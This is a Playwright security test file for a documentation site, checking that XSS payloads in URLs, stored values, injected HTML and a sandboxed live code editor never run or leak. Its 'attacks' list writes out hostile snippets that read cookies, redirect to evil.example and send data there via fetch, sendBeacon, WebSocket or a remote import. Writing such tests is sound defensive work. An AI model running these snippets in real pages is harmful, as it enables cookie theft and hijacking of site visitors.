import type { Page } from '@playwright/test';
import { pageAt } from '../built/builtSite';
import { payloads } from '../hostile/payloads';
import { liveResult } from './support/liveResult';
import { expect, hydrated, open, test } from './support/test';

/**
 * Hostile inputs that only a browser can judge. The other ones are in tests/hostile. A script
 * that runs sets `window.hacked`. The policy and the sandbox log what they block.
 */
test.use({ allowedMessages: [/./] });

const tried = [
  'an image with a handler',
  'the end of an attribute',
  'the end of a script',
  'a script URL',
  'the prototype',
].map((name) => payloads[name] ?? '');

/** Fails if a script ran, or if readers see a broken page or another site. */
async function expectIntact(page: Page, origin: string | undefined): Promise<void> {
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(new URL(page.url()).origin).toBe(origin);
  await expect(page.getByRole('link', { name: 'Docs', exact: true }).first()).toBeAttached();
  await expect(page.locator('body')).not.toContainText('This page crashed');
}

test('query parameters, hashes, and paths', async ({ page, baseURL }) => {
  test.setTimeout(180_000);
  const places = [
    '/?docusaurus-theme=',
    '/showcase/?name=',
    '/feature-requests/?q=',
    '/feature-requests/',
    '/versions/compare/?page=',
    '/changelog/3.8.0/?category=',
    '/search/?q=',
    '/docs/installation/#',
    '/docs/unknown/',
  ];
  for (const place of places) {
    for (const payload of tried) {
      await page.goto(place + encodeURIComponent(payload));
      await hydrated(page);
      await expectIntact(page, baseURL);
    }
  }
});

test('stored values', async ({ page, baseURL }) => {
  const suffix = /"theme(-\w+)"/.exec(pageAt('/').html)?.[1];
  expect(suffix).toBeDefined();
  const keys = [
    ...['theme', 'docusaurus.announcement.id', 'docusaurus.announcement.dismiss'],
    ...['docs-preferred-version-default', 'docusaurus.tab.os', 'docusaurus.tab.npm2yarn'],
  ].map((key) => key + suffix);
  await open(page, '/');
  for (const payload of tried) {
    const hit = {
      objectID: payload,
      url: payload,
      type: 'lvl1',
      content: payload,
      hierarchy: { lvl0: payload, lvl1: payload },
    };
    await page.evaluate(
      ([names, value, hits]) => {
        for (const name of names) {
          localStorage.setItem(name, value);
        }
        for (const list of ['RECENT', 'FAVORITE']) {
          localStorage.setItem(`__DOCSEARCH_${list}_SEARCHES__docusaurus-2`, hits);
        }
      },
      [keys, payload, JSON.stringify([hit])] as const,
    );
    for (const path of ['/docs/installation/', '/legal/']) {
      await open(page, path);
      await expectIntact(page, baseURL);
    }
    await page.keyboard.press('Control+k');
    const stored = page.getByRole('option').first();
    await expect(stored).toBeVisible();
    await stored.getByRole('link').first().click();
    await expectIntact(page, baseURL);
  }
});

test('HTML that got into a page, such as the content of the announcement bar', async ({
  page,
  baseURL,
}) => {
  const html = ['a script', 'an image with a handler', 'an SVG with a handler', 'a base URL'];
  const injected = html.map((name) => payloads[name]).join('');
  let changed = 0;
  await page.route(`${baseURL}/docs/installation/`, async (route) => {
    const response = await route.fetch();
    const text = (await response.text()).replace(/<nav/, () => {
      changed += 1;
      return `<div>${injected}</div><nav`;
    });
    await route.fulfill({ response, body: text });
  });
  await page.goto('/docs/installation/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(changed).toBe(1);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(await page.evaluate(() => new URL(document.baseURI).origin)).toBe(baseURL);
});

/** Code that readers could be asked to paste into the live editor. */
const attacks = [
  '() => { alert(1); confirm(1); prompt(1); return 1 }',
  '() => <b>{document.cookie}</b>',
  '() => <b>{localStorage.theme}</b>',
  '() => <b>{parent.document.title}</b>',
  '() => <b>{top.document.title}</b>',
  '() => { top.hacked = 1; return 1 }',
  '() => { top.location = "https://evil.example/"; return 1 }',
  '() => { parent.location = "https://evil.example/"; return 1 }',
  '() => { parent.parent.history.back(); return 1 }',
  '() => { open("https://evil.example/"); return 1 }',
  '() => { fetch("https://evil.example/").catch(() => {}); return 1 }',
  '() => { new WebSocket("wss://evil.example/"); return 1 }',
  '() => { navigator.sendBeacon("https://evil.example/", "x"); return 1 }',
  '() => { new Image().src = "https://evil.example/x.png"; return 1 }',
  '() => { import("https://evil.example/x.js").catch(() => {}); return 1 }',
  '() => { new Worker("data:text/javascript,1"); return 1 }',
  '() => { navigator.serviceWorker.register("/sw.js"); return 1 }',
  '() => { for (let n = 0; n < 99; n += 1) top.postMessage({ type: "height", height: 1e9 }, "*"); return 1 }',
  '() => { top.postMessage({ type: "run", source: { code: "top.hacked = 1" } }, "*"); return 1 }',
  '() => <iframe src="javascript:top.hacked = 1" />',
  '() => <iframe src="https://evil.example/" />',
  '() => <a href="https://evil.example/" target="_top" ref={(a) => a?.click()}>a</a>',
  '() => <form action="https://evil.example/" ref={(form) => form?.submit()} />',
  '() => { document.body.innerHTML = "<script>top.hacked = 1</script>"; return 1 }',
  '() => { location.href = "https://evil.example/"; return 1 }',
];

test('live code', async ({ page, baseURL }) => {
  const path = '/docs/markdown-features/code-blocks/';
  const outside: string[] = [];
  // Only sees requests that the policy doesn't block.
  await page.context().route(/evil\.example/, async (route) => {
    outside.push(route.request().url());
    await route.abort();
  });
  await open(page, path);
  const sample = page.getByRole('figure', { name: 'Live code' }).first();
  await sample.getByRole('button', { name: 'Run and edit' }).click();
  await expect(liveResult(sample).getByRole('button')).toBeVisible();
  const run = (code: string) =>
    page.evaluate(
      (source) =>
        document
          .querySelector<HTMLIFrameElement>('iframe[title="Result of the code"]')
          ?.contentWindow?.frames[0]?.postMessage({ type: 'run', source }, '*'),
      { code, noInline: false },
    );
  for (const code of attacks) {
    await run(code);
    await page.waitForTimeout(100);
    await expectIntact(page, baseURL);
    expect(new URL(page.url()).pathname).toBe(path);
    const size = await sample.getByTitle('Result of the code').boundingBox();
    expect(size?.height).toBeLessThanOrEqual(2000);
  }
  expect(outside).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
});

test('live code that never ends', async ({ page }) => {
  await open(page, '/docs/markdown-features/code-blocks/');
  const sample = page.getByRole('figure', { name: 'Live code' }).first();
  await sample.getByRole('button', { name: 'Run and edit' }).click();
  await expect(liveResult(sample).getByRole('button')).toBeVisible();
  await sample.locator('pre[contenteditable]').first().click();
  await page.keyboard.press('Control+a');
  await page.keyboard.type('() => { for (;;); }');
  await expect(sample.getByRole('status')).toContainText('took too long');
  await sample.getByRole('button', { name: 'Reset code to original' }).click();
  await expect(liveResult(sample).getByRole('button')).toBeVisible();
});

test('the frame refuses to run code outside of its sandbox', async ({ page }) => {
  await page.goto('/live-code/');
  const script = await page
    .locator('iframe')
    .evaluate(
      (frame) =>
        new DOMParser()
          .parseFromString(frame.getAttribute('srcdoc') ?? '', 'text/html')
          .querySelector('script')?.textContent,
    );
  await page.goto('about:blank');
  await page.setContent('<style></style><main></main>');
  await page.evaluate((text) => {
    const element = document.createElement('script');
    element.textContent = text ?? '';
    // The test page needs the origin of a page to look like one.
    Object.defineProperty(window, 'origin', { value: 'https://docs.example.org' });
    document.body.append(element);
  }, script);
  await page.evaluate(() =>
    window.postMessage({ type: 'run', source: { code: 'top.hacked = 1', noInline: false } }, '*'),
  );
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(await page.locator('main').innerHTML()).toBe('');
});
